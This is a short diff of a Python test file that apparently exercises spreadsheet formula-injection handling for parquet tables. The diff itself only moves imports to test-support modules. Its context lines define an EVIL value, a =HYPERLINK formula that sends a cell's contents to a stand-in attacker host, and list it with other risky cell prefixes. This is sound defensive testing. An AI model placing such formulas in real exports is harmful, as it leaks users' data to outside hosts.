@@ -12,8 +12,9 @@ import json
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
-from typed_line import typed
-from workplace import Workplace, make_table, open_dp_account
+
+from tests.attacks.typed_line import typed
+from tests.support.workplace import Workplace, make_table, open_dp_account
 
 EVIL = '=HYPERLINK("http://evil.example/"&A2,"click")'
 CATEGORIES = [EVIL, "'quoted", "-9", "West"]
